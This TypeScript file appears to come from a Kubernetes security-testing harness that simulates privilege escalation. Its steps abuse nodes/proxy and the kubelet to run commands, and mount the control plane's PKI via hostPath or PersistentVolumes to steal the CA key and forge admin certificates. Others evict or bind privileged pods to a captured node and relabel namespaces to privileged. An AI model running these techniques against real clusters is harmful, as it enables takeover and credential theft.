/** Ways from a right on nodes, or to what lies on them, to more. */
import { ADMINISTRATORS_GROUP } from '../../../../constructs/control-plane';
import { issueLeaf, publicKeyOf } from '../../../../pki';
import { Refused, type Attacker } from './attacker';
import type { Found } from './kubelet';
import { core, defineTechniques, on } from './technique';
import { askKubelet, STRONG, podSpec, type World } from './world';
import { mounting } from './workloads';

const PROXY = 'Kubernetes, RBAC good practices: access to proxy subresource of nodes, T1609, CIS 5.1.10';
const HOST_PATH = 'Kubernetes, RBAC good practices: persistent volume creation, T1611, CIS 5.1.9';

/** With the key of the cluster's authority anybody is whoever they want to be. */
async function signsItself(me: Attacker, world: World, { file }: Found): Promise<boolean> {
  if (file === undefined) return false;
  const [privateKey, certificate] = [file('ca.key'), file('ca.crt')];
  const leaf = {
    ...{ name: 'mine', authority: 'ca', commonName: me.id, organizations: [ADMINISTRATORS_GROUP] },
    ...{ uses: ['client'] as const, dnsNames: [], ipAddresses: [], lifetimeDays: 1 },
  };
  const authority = { privateKey, publicKey: publicKeyOf(privateKey), certificate };
  const mine = await issueLeaf(leaf, authority, new Date());
  const credentials = { ca: certificate, cert: mine.certificate ?? '', key: mine.privateKey };
  return world.becomesAdministrator(me.with(credentials));
}

/** Acts as a node that was broken into before, for a pod that is on it now. */
async function robs(me: Attacker, world: World, target: string, not: readonly string[]): Promise<boolean> {
  const { token } = await world.foundIn(target, me.id, not);
  return token !== undefined && world.becomesAdministrator(me.bearing(token));
}

/** A pod that tolerates everything, on the node of the control plane. */
const ON_CONTROL_PLANE = {
  tolerations: [{ operator: 'Exists' }],
  nodeSelector: { 'kubernetes.io/hostname': 'control-plane' },
};

/** A deployment whose pods read the disk of the node of the control plane. */
export function readingDisk(me: Attacker, world: World): object {
  const volume = { name: 'loot', hostPath: { path: `${world.own.plane.stateDir}/pki` } };
  const labels = { app: me.id };
  const template = { metadata: { labels }, spec: mounting(volume, ON_CONTROL_PLANE) };
  return { metadata: { name: me.id }, spec: { selector: { matchLabels: labels }, template } };
}

export const NODE_TECHNIQUES = defineTechniques(
  {
    name: 'runs a command through the proxy of a node',
    source: PROXY,
    needs: { cluster: [core('nodes/proxy', 'create')] },
    proxied: true,
    attempt: async (me, world, target) => {
      const path = `/api/v1/nodes/worker/proxy/run/${target}/guarded/main?cmd=cat`;
      const { token } = await me.must<Found>('POST', path);
      return token !== undefined && world.becomesAdministrator(me.bearing(token));
    },
  },
  {
    name: 'reads the environment of all pods through the proxy of a node',
    source: PROXY,
    needs: { cluster: [core('nodes/proxy', 'get')] },
    proxied: true,
    attempt: async (me, world) =>
      JSON.stringify(await me.must('GET', '/api/v1/nodes/worker/proxy/pods')).includes(world.treasure),
  },
  {
    name: 'runs a command by asking the kubelet itself',
    source: 'Kubernetes, Kubelet authentication/authorization, T1609, CIS 5.1.10',
    needs: { cluster: [core('nodes/proxy', 'create')] },
    attempt: async (me, world, target) => {
      const path = `/run/${target}/guarded/main?cmd=cat`;
      const { status, body } = await askKubelet(world.kubelet('worker').port, path, me.credentials);
      if (status !== 200) throw new Refused(`kubelet ${path}`, status, body);
      const { token } = JSON.parse(body) as Found;
      return token !== undefined && world.becomesAdministrator(me.bearing(token));
    },
  },
  {
    name: "reads the authority's key from the disk of a node of the control plane",
    source: `${HOST_PATH}, CIS 5.2.12`,
    needs: { target: [core('pods', 'create')] },
    attempt: async (me, world, target) => {
      const volume = { name: 'loot', hostPath: { path: `${world.own.plane.stateDir}/pki` } };
      const metadata = { name: me.id, labels: { app: me.id } };
      const spec = mounting(volume, ON_CONTROL_PLANE);
      await me.must('POST', `/api/v1/namespaces/${target}/pods`, { metadata, spec });
      return signsItself(me, world, await world.foundIn(target, me.id));
    },
  },
  {
    name: "reads the authority's key by a deployment",
    source: `${HOST_PATH}, CIS 5.2.12`,
    needs: { target: [on('apps', 'deployments', 'create')] },
    attempt: async (me, world, target) => {
      await me.must('POST', `/apis/apps/v1/namespaces/${target}/deployments`, readingDisk(me, world));
      return signsItself(me, world, await world.foundIn(target, me.id));
    },
  },
  {
    name: "reads the authority's key through a PersistentVolume",
    source: HOST_PATH,
    needs: {
      cluster: [core('persistentvolumes', 'create')],
      target: [core('persistentvolumeclaims', 'create'), core('pods', 'create')],
    },
    attempt: async (me, world, target) => {
      const storage = { accessModes: ['ReadWriteOnce'], storageClassName: '' };
      const volume = {
        ...{ ...storage, capacity: { storage: '1Gi' } },
        hostPath: { path: `${world.own.plane.stateDir}/pki` },
      };
      await me.must('POST', '/api/v1/persistentvolumes', { metadata: { name: me.id }, spec: volume });
      const claim = { ...storage, volumeName: me.id, resources: { requests: { storage: '1Gi' } } };
      const base = `/api/v1/namespaces/${target}`;
      await me.must('POST', `${base}/persistentvolumeclaims`, { metadata: { name: me.id }, spec: claim });
      const metadata = { name: me.id, labels: { app: me.id } };
      const mounted = { name: 'loot', persistentVolumeClaim: { claimName: me.id } };
      await me.must('POST', `${base}/pods`, { metadata, spec: mounting(mounted, ON_CONTROL_PLANE) });
      return signsItself(me, world, await world.foundIn(target, me.id));
    },
  },
  {
    name: 'drives a pod of a stronger account onto a node that it holds',
    source: 'Kubernetes, RBAC good practices: nodes, T1578',
    needs: {
      cluster: [core('nodes', 'patch')],
      target: [core('pods', 'list'), core('pods/eviction', 'create')],
    },
    attempt: async (me, world, target) => {
      const spec = {
        ...{ replicas: 1, selector: { matchLabels: { app: me.id } } },
        template: { metadata: { labels: { app: me.id } }, spec: podSpec({ serviceAccountName: STRONG }) },
      };
      const body = { metadata: { name: me.id }, spec };
      await world.exists(me, `/apis/apps/v1/namespaces/${target}/deployments`, body);
      await world.foundIn(target, me.id);
      world.keepFields('/api/v1/nodes/worker', { spec: { unschedulable: null } });
      world.keepFields('/api/v1/nodes/captured', { spec: { unschedulable: true } });
      await me.patch('/api/v1/nodes/worker', { spec: { unschedulable: true } });
      await me.patch('/api/v1/nodes/captured', { spec: { unschedulable: null } });
      const pods = `/api/v1/namespaces/${target}/pods`;
      type Names = { items: { metadata: { name: string } }[] };
      const { items } = await me.must<Names>('GET', `${pods}?labelSelector=app%3D${me.id}`);
      const names = items.map(({ metadata }) => metadata.name);
      for (const name of names) await me.must('POST', `${pods}/${name}/eviction`, { metadata: { name } });
      return robs(me, world, target, names);
    },
  },
  {
    name: 'binds a waiting pod of a stronger account to a node that it holds',
    source: 'T1578',
    needs: { target: [core('pods/binding', 'create')] },
    attempt: async (me, world, target) => {
      const spec = podSpec({ serviceAccountName: STRONG, nodeSelector: { nowhere: 'yes' } });
      const metadata = { name: me.id, labels: { app: me.id } };
      const path = await world.exists(me, `/api/v1/namespaces/${target}/pods`, { metadata, spec });
      const body = { metadata: { name: me.id }, target: { kind: 'Node', name: 'captured' } };
      await me.must('POST', `${path}/binding`, body);
      return robs(me, world, target, []);
    },
  },
  {
    name: 'lets a namespace run what reads the disk of its node',
    source: 'Kubernetes, RBAC good practices: namespace modification, T1562.001, CIS 5.2.1',
    needs: { target: [core('namespaces', 'patch'), core('pods', 'create')] },
    attempt: async (me, world, target) => {
      const level = 'pod-security.kubernetes.io/enforce';
      const path = `/api/v1/namespaces/${target}`;
      const labelled = (value: string) => ({ metadata: { labels: { [level]: value } } });
      const type = { 'content-type': 'application/merge-patch+json' };
      world.keepFields(path, labelled('privileged'));
      await world.admin('PATCH', path, labelled('restricted'), type);
      await me.patch(path, labelled('privileged'));
      const volume = { name: 'loot', hostPath: { path: `${world.own.plane.stateDir}/pki` } };
      const body = {
        metadata: { name: me.id, labels: { app: me.id } },
        spec: mounting(volume, ON_CONTROL_PLANE),
      };
      // Pod Security sees the label a moment later.
      await world.eventually(async () => {
        const { status, body: text } = await me.send('POST', `${path}/pods`, body);
        if (status === 403 && !text.includes('PodSecurity'))
          throw new Refused(`POST ${path}/pods`, status, text);
        return status === 201;
      });
      return signsItself(me, world, await world.foundIn(target, me.id));
    },
  },
);
